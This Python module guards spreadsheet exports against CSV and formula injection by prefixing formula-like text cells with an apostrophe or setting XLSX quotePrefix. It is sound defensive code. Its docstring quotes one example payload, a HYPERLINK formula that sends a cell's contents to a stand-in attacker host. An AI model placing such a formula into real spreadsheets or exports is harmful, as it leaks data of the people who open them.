"""Keeping exported cells from being run as spreadsheet formulas (CSV and formula injection).

A turn or memo that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before looking) is a formula to Excel and LibreOffice when they open a CSV
file: ``=HYPERLINK("http://evil.example/?x="&A1, "klikk")`` sends the row away. Every CSV and
XLSX writer guards its text cells here, with OWASP's leading apostrophe
(https://owasp.org/www-community/attacks/CSV_Injection):

- in CSV the apostrophe is a character of the cell (:func:`neutralise_formula`), and
  ``import codings`` removes it again (:func:`restore_formula`), so an export and re-import is
  exact;
- in XLSX it is the cell's ``quotePrefix`` property (:func:`guard_xlsx_cell`), which is how Excel
  itself stores an apostrophe typed before ``=``: the cell is a string, shows the text as it is,
  and stays text when someone edits it. Every XLSX text cell is a string cell, never a formula.
"""

from __future__ import annotations

from typing import Any

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
APOSTROPHE = "'"


def is_formula_like(value: Any) -> bool:
    """True for text a spreadsheet would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def neutralise_formula(value: Any) -> Any:
    """``value`` with a leading apostrophe if it is text a spreadsheet would run as a formula.

    Text that already starts with an apostrophe before a trigger gets one more, so that
    :func:`restore_formula` can always remove exactly one. Numbers and other values are returned
    as they are (a negative number is a number, not a formula).
    """
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_TRIGGERS) or (
        value.startswith(APOSTROPHE) and value.lstrip(APOSTROPHE).startswith(FORMULA_TRIGGERS)
    ):
        return APOSTROPHE + value
    return value


def restore_formula(text: str) -> str:
    """Undo :func:`neutralise_formula`: drop the apostrophe it put before a formula trigger."""
    if text.startswith(APOSTROPHE) and text.lstrip(APOSTROPHE).startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def neutralise_row(values: Any) -> list[Any]:
    """Every value of a row through :func:`neutralise_formula` (None becomes an empty cell)."""
    return ["" if v is None else neutralise_formula(v) for v in values]


def guard_xlsx_cell(cell: Any) -> Any:
    """Make an openpyxl cell holding text a string cell, quote-prefixed if formula-like."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if is_formula_like(cell.value):
            cell.quotePrefix = True
    return cell


def xlsx_value(sheet: Any, value: Any) -> Any:
    """A value for a write-only sheet's ``append``: formula-like text as a guarded string cell."""
    if not is_formula_like(value):
        return value
    from openpyxl.cell import WriteOnlyCell

    return guard_xlsx_cell(WriteOnlyCell(sheet, value=value))
